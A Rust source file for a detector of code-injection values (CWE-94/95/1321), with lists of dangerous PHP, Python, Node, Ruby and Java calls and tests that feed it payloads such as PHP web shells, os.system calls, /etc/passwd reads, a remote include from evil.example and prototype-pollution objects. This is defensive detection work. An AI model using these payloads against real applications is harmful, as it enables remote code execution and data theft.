//! Program code: does the value, put where a string or an expression should be, act in PHP, Python,
//! JavaScript, Ruby, Perl or Java (CWE-94, CWE-95, CWE-1321).
//!
//! What counts is code that *acts* when it is evaluated: it reaches the operating system, files, the
//! interpreter or the insides of classes, or runs what the request brings. The value must be that code, from
//! its beginning or from where it closes a string: a post that asks about `eval()` or shows a program among
//! sentences is left alone, and so is a program that computes and prints.

use crate::finding::{Finding, Language};
use crate::reading::{Hit, judge};
use crate::text::{
    Bytes, at, before, begins, cut, find, find_from, has, has_any, is_word, rest, run, skip_space, words,
};

const MARKS: Bytes = Bytes::of(b"(<$`[_.{");

/// Finds code that acts where a value should be.
///
/// Costs time linear in the input.
#[must_use]
pub fn code(input: &[u8]) -> Option<Finding> {
    if !MARKS.any(input) && !input.contains(&b'%') {
        return None;
    }
    judge(Language::Code, input, read)
}

fn read(text: &[u8]) -> Option<Hit> {
    let hit = |place: usize, why: &'static str, shape: &'static str| {
        Some(Hit::new("code or a string in it", place..text.len(), why, shape))
    };
    if let Some(place) = prototype(text) {
        return hit(place, "it reaches the prototype of every object", "prototype");
    }
    if let Some(place) = php_tag(text) {
        return hit(place, "it is a program of PHP that acts", "<?php call");
    }
    if let Some(place) = interpolated(text) {
        return hit(place, "a string of PHP works it out", "{${call}}");
    }
    if let Some(place) = dunders(text) {
        return hit(place, "it reaches the insides of Python's classes", "__class__");
    }
    if is_text(text) {
        return None;
    }
    let start = code_start(text);
    if let Some(place) = dangerous_call(text, start) {
        return hit(place, "it is a call that acts where a value should be", "call(…)");
    }
    if let Some(place) = php_dynamic(text) {
        return hit(place, "it calls what the request names", "$call(…)");
    }
    if endless(text) {
        return hit(0, "it is a loop without end", "while(1)");
    }
    None
}

/// A text with sentences, in which code is shown.
fn is_text(text: &[u8]) -> bool {
    let mut prose = 0;
    for line in text.split(|&byte| byte == b'\n').take(40) {
        let mut run_of_words = 0;
        for word in line.split(|&byte| byte == b' ').take(60) {
            let plain = word.iter().all(|byte| {
                byte.is_ascii_alphabetic()
                    || matches!(byte, b'\'' | b',' | b'.' | b'?' | b'!' | b':' | b';')
                    || *byte >= 0x80
            });
            // Words of programs are words too, but few stand in a row.
            let keyword = matches!(
                word,
                b"import"
                    | b"from"
                    | b"new"
                    | b"return"
                    | b"function"
                    | b"var"
                    | b"let"
                    | b"const"
                    | b"if"
                    | b"else"
                    | b"in"
                    | b"for"
                    | b"while"
                    | b"print"
                    | b"echo"
                    | b"as"
                    | b"and"
                    | b"or"
                    | b"not"
                    | b"lambda"
                    | b"def"
                    | b"class"
                    | b"await"
                    | b"throw"
                    | b"try"
                    | b"end"
                    | b"do"
            );
            if plain && keyword {
                continue;
            }
            if plain
                && !word.is_empty()
                && word.first().is_some_and(|byte| byte.is_ascii_alphabetic() || *byte >= 0x80)
            {
                run_of_words += 1;
                prose = prose.max(run_of_words);
            } else {
                run_of_words = 0;
            }
        }
    }
    let quoted = memchr::memchr2(b'\'', b'"', before(text, 24)).is_some();
    prose >= if quoted { 5 } else { 3 }
}

/// Where code begins: after what would close the string that the value stands in.
fn code_start(text: &[u8]) -> usize {
    run(text, 0, |byte| {
        byte.is_ascii_whitespace()
            || matches!(
                byte,
                b'\''
                    | b'"'
                    | b';'
                    | b')'
                    | b'}'
                    | b'+'
                    | b'.'
                    | b'@'
                    | b'&'
                    | b'|'
                    | b','
                    | b'-'
                    | b'('
                    | b'!'
                    | b'='
                    | b']'
                    | b'{'
                    | b'$'
            )
    })
}

/// Calls that act by themselves, whatever their arguments.
const ACTS: &[&[u8]] = &[
    b"__import__('",
    b"__import__(\"",
    b"subprocess.popen(",
    b"subprocess.call(",
    b"subprocess.run(",
    b"subprocess.check_",
    b"subprocess.getoutput(",
    b"readfile('",
    b"readfile(\"",
    b"os.system(",
    b"os.popen(",
    b"os.exec",
    b"os.spawn",
    b"commands.getoutput(",
    b"pty.spawn(",
    b"importlib.import_module(",
    b"exec(compile",
    b"eval(compile",
    b"exec(open",
    b"execfile(",
    b"platform.popen(",
    b"posix.system(",
    b"globals()",
    b"getattr(__",
    b"os.listdir(",
    b"os.fork(",
    b"require('child_process",
    b"require(\"child_process",
    b"require(`child_process",
    b"require('fs",
    b"require(\"fs",
    b"require('os",
    b"require('http",
    b"require('net",
    b"require(\"net",
    b"require('vm",
    b"process.mainModule",
    b"process.binding(",
    b"process.kill(",
    b"global.process",
    b"globalThis.process",
    b"constructor.constructor(",
    b"child_process",
    b"execsync(",
    b"spawnsync(",
    b"import('child_process",
    b"import(\"child_process",
    b"global.constructor",
    b"this.constructor",
    b"function(\"return ",
    b"function('return ",
    b"deno.run(",
    b"deno.command(",
    b"bun.spawn(",
    b"shell_exec(",
    b"passthru(",
    b"proc_open(",
    b"pcntl_exec(",
    b"phpinfo(",
    b"base64_decode(",
    b"create_function(",
    b"call_user_func",
    b"assert(",
    b"file_put_contents(",
    b"file_get_contents(",
    b"highlight_file(",
    b"show_source(",
    b"gzinflate(",
    b"str_rot13(",
    b"register_shutdown_function(",
    b"move_uploaded_file(",
    b"allow_url_include",
    b"auto_prepend_file",
    b"scandir(",
    b"glob(\"/",
    b"php_uname(",
    b"get_defined_vars(",
    b"getenv(",
    b"ini_set(",
    b"fsockopen(",
    b"print(md5(",
    b"print(`",
    b"curl_exec(",
    b"eval(\"",
    b"eval('",
    b"eval($_",
    b"preg_replace('/.*/e",
    b"preg_replace(\"/.*/e",
    b"unserialize(",
    b"hex2bin(",
    b"fopen('/",
    b"fopen(\"/",
    b"md5(1",
    b"phpversion(",
    b"extract($_",
    b"parse_str($_",
    b"opendir(",
    b"get_current_user(",
    b"posix_getpwuid(",
    b"chr(101)",
    b"pack(\"h",
    b"runtime.getruntime(",
    b"new processbuilder",
    b"java.lang.runtime",
    b"java.lang.processbuilder",
    b"class.forname(",
    b"scriptenginemanager",
    b"new java.",
    b"java.io.file",
    b"system.getproperty(",
    b"system.getenv(",
    b"groovy.lang",
    b"].execute()",
    b"'.execute()",
    b"\".execute()",
    b"io.popen(",
    b"kernel.exec",
    b"kernel.system",
    b"kernel.open",
    b"open3.",
    b"process.spawn(",
    b"file.read(",
    b"dir.entries(",
    b"file.open('/",
    b"io.read(",
    b"`.execute",
    b"instance_eval",
    b"class_eval",
    b"send(:system",
    b"send(:eval",
    b"%x(",
    b"%x{",
    b"%x[",
    b"exec \"",
    b"system \"",
    b"system '",
    b"os.execute(",
    b"loadstring(",
    b"qx(",
    b"qx/",
    b"qx{",
    b"dofile(",
    b"io.popen",
    b"env.to_",
    b"require 'open3",
    b"require 'socket",
    b"process.start(",
    b"system.diagnostics",
    b"activator.createinstance",
    b"assembly.load(",
    b"new activexobject(",
    b"wscript.shell",
    b"createobject(",
    b"response.write(",
    b"sleep(5",
    b"sleep(10",
    b"time.sleep(",
    b"thread.sleep(",
    b"usleep(",
    b"socket.socket(",
    b"urllib.request",
    b"urlopen(",
    b"requests.get('http",
    b"new function(",
    b"settimeout('",
    b"string.fromcharcode(",
    b"atob(",
    b"import os",
    b"import subprocess",
    b"import socket",
    b"import pty",
    b"from os import",
    b"array_map('system",
    b"array_map('exec",
    b"array_map('assert",
    b"array_filter('system",
    b"die(md5(",
    b"new javax.script",
];

/// Calls that act if their argument is a constant that a command or a file would be.
const ACTS_ON_TEXT: &[&[u8]] = &[
    b"system(",
    b"exec(",
    b"popen(",
    b"eval(",
    b"open(",
    b"include(",
    b"require(",
    b"include_once(",
    b"require_once(",
    b"include ",
    b"require ",
    b"spawn(",
    b"print(",
    b"execute(",
    b"compile(",
    b"getattr(",
    b"function(",
    b"echo ",
    b"print ",
    b"import ",
];

fn dangerous_call(text: &[u8], start: usize) -> Option<usize> {
    let body = rest(text, start);
    // A value that is code begins with it; a program of many lines is shown.
    let lines = memchr::memchr_iter(b'\n', text.trim_ascii()).take(12).count();
    let window = cut(body, 0..512);
    let first = ACTS.iter().filter_map(|name| call(window, name)).min();
    if let Some(place) = first {
        let lead = before(window, place);
        let closes = start > 0
            && before(text, start).iter().any(|byte| matches!(byte, b'\'' | b'"' | b';' | b')' | b'}'));
        let quoted = before(text, start).iter().any(|byte| matches!(byte, b'\'' | b'"' | b';'));
        let assigned = lead.contains(&b'=') && !closes;
        let heading = words(lead, 8);
        let weak = weak_alone(rest(window, place)) && !(lines == 0 && is_import(rest(window, place)));
        let near = place == 0 || closes || heading <= 3 && !assigned && place < 120 || heading <= 2;
        if near
            && lines < 8
            && (!weak || is_whole_call(body) || quoted && place == 0)
            && !(lines >= 2 && !closes && is_import(rest(window, place)))
        {
            if is_import(rest(window, place))
                && !has_any(window, &[b"os.", b"subprocess.", b"socket.", b"pty.", b"system(", b"popen("])
            {
                return None;
            }
            return Some(start + place);
        }
    }
    if lines > 2 {
        return None;
    }
    let closes = start > 0;
    ACTS_ON_TEXT.iter().find_map(|name| {
        let place = if closes || lines > 0 {
            call(cut(window, 0..160), name)
        } else {
            begins(window, name).then_some(0)
        }?;
        let argument = rest(window, place + name.len());
        if !(place == 0 || closes && before(window, place).iter().all(|byte| !byte.is_ascii_alphabetic())) {
            return None;
        }
        acts_on(name, argument, closes).then_some(start + place)
    })
}

fn is_import(text: &[u8]) -> bool {
    begins(text, b"import ") || begins(text, b"from ")
}

/// Names that programs which only compute use too: they must be all that is sent.
fn weak_alone(here: &[u8]) -> bool {
    [
        &b"assert("[..],
        b"sleep(",
        b"time.sleep(",
        b"globals()",
        b"atob(",
        b"thread.sleep(",
        b"file.read(",
        b"io.read(",
        b"getenv(",
        b"settimeout('",
        b"string.fromcharcode(",
        b"class.forname(",
        b"urlopen(",
        b"unserialize(",
        b"system.getproperty(",
        b"system.getenv(",
        b"os.listdir(",
        b"child_process",
        b"this.constructor",
        b"ini_set(",
        b"require('fs",
        b"require(\"fs",
        b"require('os",
        b"require('http",
        b"require('net",
        b"require(\"net",
        b"file_get_contents(",
        b"base64_decode(",
        b"os.remove(",
        b"response.write(",
        b"createobject(",
        b"urllib.request",
        b"hex2bin(",
        b"phpversion(",
        b"md5(1",
        b"instance_eval",
        b"class_eval",
        b"activator",
        b"java.io.file",
        b"socket.socket(",
        b"import ",
        b"from os",
        b"system.diagnostics",
    ]
    .iter()
    .any(|name| begins(here, name))
}

/// The value is one call or a chain of calls, with nothing around it but what closes it.
fn is_whole_call(body: &[u8]) -> bool {
    let body = body.trim_ascii();
    let end = run(body, 0, |byte| is_word(byte) || matches!(byte, b'.' | b'$' | b':'));
    let spaced = body.iter().take(end.max(1)).any(|byte| *byte == b' ');
    let tail = body.iter().rev().find(|byte| {
        !matches!(byte, b';' | b'/' | b'#' | b'-' | b' ' | b'?' | b'>' | b'\'' | b'"' | b'}' | b'+' | b'.')
    });
    end > 0
        && !spaced
        && at(body, end) == b'('
        && (tail == Some(&b')') || memchr::memchr(b')', body).is_none())
        && memchr::memchr(b'\n', body).is_none()
        && !matches!(before(body, end), b"die" | b"assert" | b"atob" | b"unserialize" | b"require")
        || begins(body, b"require(")
            && has_any(body, &[b").exec", b").spawn", b").read", b").write", b".execsync(", b".connect("])
            && memchr::memchr(b'\n', body).is_none()
        || begins(body, b"assert(")
            && has_any(body, &[b"'", b"\"", b"$_", b"eval", b"system"])
            && !has_any(body, &[b"==", b" in ", b"assert(s", b", "])
}

/// Whether a call upon this argument acts.
fn acts_on(name: &[u8], argument: &[u8], closes: bool) -> bool {
    let argument = rest(argument, skip_space(argument, 0));
    let quoted = matches!(at(argument, 0), b'\'' | b'"' | b'`' | b'\\');
    let inside = rest(argument, 1);
    let request = has_any(
        before(argument, 40),
        &[
            b"$_get",
            b"$_post",
            b"$_request",
            b"$_cookie",
            b"$_server",
            b"req.query",
            b"req.body",
            b"request.",
            b"params[",
        ],
    );
    match name {
        b"system(" | b"exec(" | b"popen(" | b"spawn(" | b"execute(" => {
            quoted
                && inside
                    .first()
                    .is_some_and(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'/' | b'.'))
                || request
        }
        b"eval(" => {
            quoted
                || request
                || has_any(
                    argument,
                    &[
                        b"base64",
                        b"chr(",
                        b"compile(",
                        b"fromcharcode",
                        b"atob(",
                        b"decode(",
                        b"(",
                        b"location",
                    ],
                )
        }
        b"open(" if inside.starts_with(b"|") => quoted,
        b"open(" | b"include(" | b"require(" | b"include_once(" | b"require_once(" | b"include "
        | b"require " => {
            quoted
                && (has_any(before(argument, 60), &[b"/etc/", b"/proc/", b"://", b"../", b"c:\\", b"/var/"]))
                || request
                || has_any(before(argument, 60), &[b"chr(", b"base64"])
        }
        b"print(" | b"echo " | b"print " => {
            at(argument, 0) == b'`' && memchr::memchr(b'`', inside).is_some_and(|end| end > 0)
                || has_any(
                    before(argument, 80),
                    &[
                        b"system(",
                        b"shell_exec(",
                        b"md5(",
                        b"phpinfo",
                        b"popen(",
                        b"__import__",
                        b"file_get_contents",
                        b"phpversion",
                        b"exec(",
                        b"`id`",
                        b"open('/",
                        b"getcwd",
                    ],
                )
                || closes
                    && argument.first().is_some_and(u8::is_ascii_digit)
                    && has_any(before(argument, 24), &[b"*", b"+"])
        }
        b"compile(" => quoted && has(argument, b"exec"),
        b"getattr(" => has(argument, b"__"),
        b"function(" => has_any(before(argument, 200), &[b"child_process", b"process.", b"require("]),
        b"import " => {
            closes
                && has_any(before(argument, 40), &[b"os", b"subprocess", b"socket", b"pty"])
                && has_any(argument, &[b"os.", b"subprocess.", b"pty."])
        }
        _ => false,
    }
}

/// Where `name` stands and is not the end of a longer one.
fn call(window: &[u8], name: &[u8]) -> Option<usize> {
    let mut from = 0;
    while let Some(place) = find_from(window, from, name) {
        let prior = at(window, place.wrapping_sub(1));
        if place == 0
            || !is_word(prior) && (prior != b'.' || name.contains(&b'.'))
            || !name.first().is_some_and(u8::is_ascii_alphabetic)
        {
            return Some(place);
        }
        // `re.compile(`, `foo.exec(` are methods; `os.system(` is listed by its full name.
        from = place + 1;
    }
    None
}

/// `__proto__`, `constructor.prototype`, `constructor[prototype]`.
fn prototype(text: &[u8]) -> Option<usize> {
    if let Some(place) = find(text, b"constructor:constructor").or_else(|| find(text, b"__proto__:")) {
        return Some(place);
    }
    let place = find(text, b"__proto__").or_else(|| {
        find_from(text, 0, b"constructor").filter(|&place| {
            let next = rest(text, place + 11);
            let next = rest(
                next,
                run(next, 0, |byte| {
                    matches!(byte, b'.' | b'[' | b']' | b'"' | b'\'' | b':' | b'{' | b' ' | b'\\')
                }),
            );
            begins(next, b"prototype") && at(text, place + 11) != b' '
        })
    })?;
    // In a sentence it is talked about; a name of a parameter or an object has it as a key.
    let around = words(before(text, place), 6) + words(rest(text, place + 9), 6);
    let object = begins(text.trim_ascii_start(), b"{") || begins(text.trim_ascii_start(), b"[");
    let key = object && around <= 9 && has(cut(text, place..place + 16), b":")
        || object && has(rest(text, place), b"constructor");
    let code = has_any(text, &[b"function", b"=>", b"class ", b"//"]) && !object;
    let said = around > 3 && !key && !object || code && around > 2;
    (!said).then_some(place)
}

/// `<?php …`, `<?= …`, `<script language="php">` with something that acts in it.
fn php_tag(text: &[u8]) -> Option<usize> {
    let mut from = 0;
    while let Some(place) = memchr::memmem::find(rest(text, from), b"<?").map(|offset| from + offset) {
        from = place + 2;
        let after = rest(text, from);
        if begins(after, b"xml") && !has(before(after, 200), b"<?php") {
            continue;
        }
        let tag = begins(after, b"php")
            || begins(after, b"=")
            || after.first().is_some_and(|byte| is_word(*byte) || matches!(byte, b' ' | b'`' | b'$' | b'@'));
        let body = cut(after, 0..600);
        let asks =
            has_any(body, &[b"$_get", b"$_post", b"$_request", b"$_cookie", b"$_server['http", b"$_files"]);
        let acts = has_any(
            body,
            &[
                b"system(",
                b"system (",
                b"exec(",
                b"passthru(",
                b"eval(",
                b"assert(",
                b"phpinfo(",
                b"popen(",
                b"proc_open(",
                b"base64_decode(",
                b"create_function",
                b"call_user_func",
                b"file_put_contents(",
                b"gzinflate",
                b"str_rot13",
                b"include 'http",
                b"include \"http",
                b"include($",
                b"fsockopen(",
                b"move_uploaded_file",
                b"preg_replace(",
                b"array_map(",
                b"file_get_contents(",
                b"md5(",
                b"chr(",
                b"phpversion(",
                b"php_uname(",
                b"`",
                b"pcntl_",
                b"unlink(",
                b"scandir(",
                b"get_current_user",
                b"show_source(",
                b"highlight_file(",
                b"echo 1",
                b"echo(",
                b"print(",
                b"include '/",
                b"include \"/",
                b"include('/",
                b"${",
                b"\\x",
            ],
        );
        let begins_value = place < 400 && words(before(text, place), 4) <= 1;
        let dynamic = has_any(body, &[b"$_get[", b"$_post[", b"$_request[", b"$_cookie["])
            && (has(body, b"](")
                || has(body, b"`")
                || has_any(
                    body,
                    &[b"system", b"exec", b"eval", b"assert", b"passthru", b"include", b"require"],
                ));
        // Alone and short it is no program that is shown.
        let bare = place == 0
            && (begins(after, b"php") && !is_word(at(after, 3)) || begins(after, b"="))
            && memchr::memchr_iter(b'\n', text.trim_ascii()).take(3).count() <= 2
            && text.len() < 400;
        if tag
            && (bare
                || begins_value && (acts || asks)
                || dynamic && place < 800 && words(before(text, place), 8) <= 6)
            && !is_page(text)
        {
            return Some(place);
        }
        // What stands in the next 300 bytes has been read: tags in them would not be other programs.
        from += 300;
    }
    find(text, b"<script language=\"php\"")
        .or_else(|| find(text, b"<script language='php'"))
        .or_else(|| find(text, b"<script language=php"))
}

/// A source file that is shown: many lines, with what a program of a page has.
fn is_page(text: &[u8]) -> bool {
    memchr::memchr_iter(b'\n', text).take(12).count() >= 12
        && !has_any(text, &[b"$_get", b"$_post", b"$_request"])
}

/// `{${phpinfo()}}`, `${@print(md5(1))}`, `${system('id')}`.
fn interpolated(text: &[u8]) -> Option<usize> {
    memchr::memmem::find_iter(text, b"${").find(|&place| {
        let inside = cut(text, place + 2..place + 130);
        let inside = inside.strip_prefix(b"@").unwrap_or(inside);
        let end = run(inside, 0, is_word);
        end > 2
            && at(inside, end) == b'('
            && [
                &b"phpinfo"[..],
                b"system",
                b"exec",
                b"passthru",
                b"eval",
                b"assert",
                b"print",
                b"shell_exec",
                b"die",
                b"sleep",
                b"phpversion",
                b"file_get_contents",
            ]
            .iter()
            .any(|name| before(inside, end).eq_ignore_ascii_case(name))
    })
}

/// `while(true);` and nothing else.
fn endless(text: &[u8]) -> bool {
    let text = text.trim_ascii();
    let body = text.strip_prefix(b"while(").or(text.strip_prefix(b"for(;;"));
    body.is_some_and(|body| {
        body.len() < 20
            && matches!(body.last(), Some(b')' | b';' | b'}'))
            && !body.iter().any(|byte| matches!(byte, b'<' | b'=' | b' '))
            && memchr::memchr(b'{', body).is_none_or(|place| body.get(place + 1) == Some(&b'}'))
    })
}

/// `().__class__.__bases__[0].__subclasses__()`, outside a template.
fn dunders(text: &[u8]) -> Option<usize> {
    let after = |name: &[u8], next: &[&[u8]]| {
        find(text, name).filter(|&place| {
            let tail = rest(text, place + name.len());
            next.iter().any(|next| begins(tail, next))
        })
    };
    let place = after(
        b"__class__",
        &[b".__base", b".__mro", b".__init", b".__subclasses", b".mro", b"[", b".__dict", b".__getattr"],
    )
    .or_else(|| after(b"__subclasses__", &[b"("]))
    .or_else(|| after(b"__globals__", &[b"[", b".", b"("]))
    .or_else(|| after(b"__builtins__", &[b"[", b".", b"'"]))
    .or_else(|| after(b"__bases__", &[b"[", b"."]))
    .or_else(|| after(b"__mro__", &[b"[", b"."]))?;
    let lead = before(text, place);
    (words(lead, 5) <= 2 && !has_any(lead, &[b"def ", b"self.", b"if "]) && !lead.contains(&b'\n'))
        .then_some(place)
}

/// `$_GET['x']($_GET['y'])`, `(sy.(st).em)(whoami)`, `$a="sys"."tem";$a("id")`.
fn php_dynamic(text: &[u8]) -> Option<usize> {
    let text_start = text.trim_ascii_start();
    let start = text.len() - text_start.len();
    for name in
        [&b"$_GET"[..], b"$_POST", b"$_REQUEST", b"$_COOKIE", b"$_SERVER", b"$_FILES", b"$GLOBALS", b"$_ENV"]
    {
        let mut from = 0;
        while let Some(place) = find_from(text, from, name) {
            from = place + name.len();
            let lead = cut(text, place.saturating_sub(64)..place);
            let called = lead.iter().rev().find(|byte| **byte != b' ' && **byte != b'@');
            let index = from + run(cut(text, from..from + 96), 0, |byte| byte != b']' && byte != b'\n');
            let calls = at(text, index + 1) == b'(' || at(text, index + 1) == b'`';
            let function = called == Some(&b'(')
                && has_any(
                    lead,
                    &[
                        b"eval(",
                        b"assert(",
                        b"system(",
                        b"exec(",
                        b"include(",
                        b"passthru(",
                        b"popen(",
                        b"unserialize(",
                        b"require(",
                    ],
                );
            if calls && matches!(at(text, from), b'[' | b'{') || function {
                return Some(place);
            }
        }
    }
    let literal = matches!(at(text_start, 0), b'(' | b'[' | b'"' | b'\'')
        && [&b"\")("[..], b"')(", b"\"(", b"'(", b"][0](", b"\" )("]
            .iter()
            .any(|form| memchr::memmem::find(text_start, form).is_some())
        && has_any(
            text_start,
            &[b"system", b"exec", b"passthru", b"eval", b"assert", b"phpinfo", b"sys", b"[0]("],
        )
        && text_start.len() < 120;
    let strung = at(text_start, 0) == b'('
        && !text_start.iter().any(|byte| matches!(byte, b'?' | b'\\' | b'*' | b'|'))
        && (has_any(text_start, &[b").(", b".("])
            && has(text_start, b")(")
            && memchr::memchr(b' ', before(text_start, find(text_start, b")(").unwrap_or(24).min(24)))
                .is_none())
        && text_start.ends_with(b")");
    let variable = at(text_start, 0) == b'$' && {
        let end = run(text_start, 1, is_word);
        end > 1 && at(text_start, end) == b'=' && {
            let name = before(text_start, end);
            let call: Vec<u8> = [name, b"("].concat();
            find_from(text_start, end, &call).is_some()
                && has_any(text_start, &[b"\".\"", b"'.'", b"base64", b"chr(", b"system", b"strrev", b"exec"])
        }
    };
    (strung || literal || variable).then_some(start)
}

#[cfg(test)]
mod tests {
    use super::code;

    #[test]
    fn code_that_acts_is_found() {
        let attacks = [
            "__import__('os').system('id')",
            "eval(compile('import os','x','exec'))",
            "os.system('id')",
            "'+__import__('os').popen('id').read()+'",
            "<?php system($_GET['c']); ?>",
            "<?php phpinfo();?>",
            "<?=`id`?>",
            "<? passthru('ls') ?>",
            "phpinfo()",
            "';phpinfo();//",
            "${@print(md5(1))}",
            "{${phpinfo()}}",
            "$_GET['a']($_GET['b'])",
            "(sy.(st).em)(whoami)",
            "eval($_POST['x'])",
            "system('id')",
            "';system('id');'",
            "assert($_GET['x'])",
            "require('child_process').exec('id')",
            "process.mainModule.require('child_process').execSync('id')",
            "global.process.mainModule.constructor._load('child_process').exec('id')",
            "this.constructor.constructor('return process')().exit()",
            "{\"__proto__\":{\"isAdmin\":true}}",
            "__proto__[isAdmin]",
            "constructor.prototype.isAdmin",
            "constructor[prototype][x]",
            "{\"constructor\":{\"prototype\":{\"a\":1}}}",
            "().__class__.__bases__[0].__subclasses__()",
            "java.lang.Runtime.getRuntime().exec('id')",
            "new java.lang.ProcessBuilder('id').start()",
            "Kernel.exec('id')",
            "IO.popen('id').read",
            "`id`.execute()",
            "'id'.execute().text",
            "eval('1+1')",
            "exec('import os; os.system(\"id\")')",
            "open('/etc/passwd').read()",
            "print(__import__('os').listdir('.'))",
            "\";import os;os.system('id');#",
            "1;phpinfo()",
            "include('http://evil.example/x.txt')",
            "file_get_contents('/etc/passwd')",
            "$a='sys'.'tem';$a('id')",
            "base64_decode('aWQ=')",
            "eval(atob('YWxlcnQ='))",
            "require('fs').readFileSync('/etc/passwd')",
            "res.end(require('fs').readdirSync('.').toString())",
            "import os; os.system('id')",
            "sleep(5)",
        ];
        let missed: Vec<_> = attacks.into_iter().filter(|value| code(value.as_bytes()).is_none()).collect();
        assert!(missed.is_empty(), "{missed:#?}");
    }

    #[test]
    fn code_that_is_shown_and_code_that_computes_are_left_alone() {
        let ordinary = [
            "Is eval() evil? I read that you should not use it",
            "def f(x):\n    return x + 1",
            "print('hello')",
            "console.log('x')",
            "<?xml version=\"1.0\"?>",
            "import os\nimport sys\n\ndef main():\n    print(os.getcwd())\n",
            "const fs = require('fs');\nconst path = require('path');\n",
            "How do I use os.system('clear') in a loop on Windows?",
            "let x = f(1);",
            "The __proto__ property is deprecated, use Object.getPrototypeOf",
            "class A:\n    def __init__(self):\n        self.x = 1",
            "use std::process::Command;",
            "for i in range(10): print(i)",
            "SELECT count(*) FROM t",
            "f(x) = x^2",
            "open(file)",
            "exec(query)",
            "re.compile('a+')",
            "Call me (maybe)",
            "function add(a, b) { return a + b; }",
            "array_push($list, $x);",
            "my.func('a')",
            "require('express')",
            "Math.max(1, 2)",
            "import React from 'react'",
            "cursor.execute('SELECT 1')",
            "assert(x == 1)",
            "regex.exec('abc')",
            "Do not forget: system (noun) is a set of things",
            "sleep(ms)",
            "print(\"sum\", 1 + 2)",
            "$total = sum($items);",
        ];
        let alarms: Vec<_> = ordinary.into_iter().filter(|value| code(value.as_bytes()).is_some()).collect();
        assert!(alarms.is_empty(), "{alarms:#?}");
    }
}
